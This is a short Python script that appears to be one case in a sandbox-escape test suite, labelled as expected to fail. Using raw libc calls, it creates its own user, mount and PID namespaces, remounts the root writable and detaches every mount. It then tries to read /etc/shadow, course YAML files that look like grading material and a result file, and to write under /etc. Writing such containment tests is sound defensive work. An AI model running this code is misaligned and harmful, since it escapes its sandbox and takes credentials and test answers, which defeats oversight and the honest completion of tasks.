#!/usr/bin/env python3
# expected: failed
# exercise: stop_at_x
# kind: gets more rights
"""Becomes root of namespaces of its own, and there mounts, unmounts what hides files, and looks for them."""
import ctypes
import glob
import os

libc = ctypes.CDLL(None, use_errno=True)
NEW_USER, NEW_MOUNTS, NEW_PIDS, DETACH = 0x10000000, 0x20000, 0x20000000, 2
print('namespaces:', libc.unshare(NEW_USER | NEW_MOUNTS | NEW_PIDS), flush=True)
libc.mount(b'none', b'/', None, 1 << 5, None)  # remount, writable
libc.mount(b'proc', b'/proc', b'proc', 0, None)
with open('/proc/self/mounts') as file:
    places = [line.split()[1] for line in file]
for place in reversed(places):
    libc.umount2(place.encode(), DETACH)
for path in [*glob.glob('/[!ps]*/**/course/*/*.yaml', recursive=True), '/etc/shadow', '/work/out/result.json']:
    try:
        with open(path) as file:
            print('FOUND', path, file.read(100), flush=True)
    except OSError:
        continue
try:
    os.makedirs('/etc/turtle', exist_ok=True)
    print('opened /etc', flush=True)
except OSError as error:
    print(error, flush=True)
